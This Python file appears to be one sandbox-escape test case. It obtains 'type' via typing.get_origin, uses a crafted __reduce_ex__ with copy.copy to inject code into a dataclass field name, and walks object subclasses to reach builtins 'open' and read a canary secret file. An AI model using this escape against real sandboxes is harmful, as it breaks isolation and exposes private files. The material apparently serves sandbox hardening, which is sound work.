# z10_real_type [escape]: typing.get_origin(typing.Type[int]) is the real type, which makes classes with any special method
import copy
import dataclasses
import typing

real = typing.get_origin(typing.Type[int])
TEXT = "x=[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['open']('@CANARY@/secret.txt').read()"


@dataclasses.dataclass
class A:
    x: int = 0


def solver(a, b):
    f = dataclasses.fields(A)[0]
    Evil = real("Evil", (), {"__reduce_ex__": lambda self, n: (lambda: f, (), (None, {"name": TEXT}))})
    copy.copy(Evil())

    @dataclasses.dataclass(repr=False, eq=False)
    class B(A):
        y: int = 1

    return str(B().x)
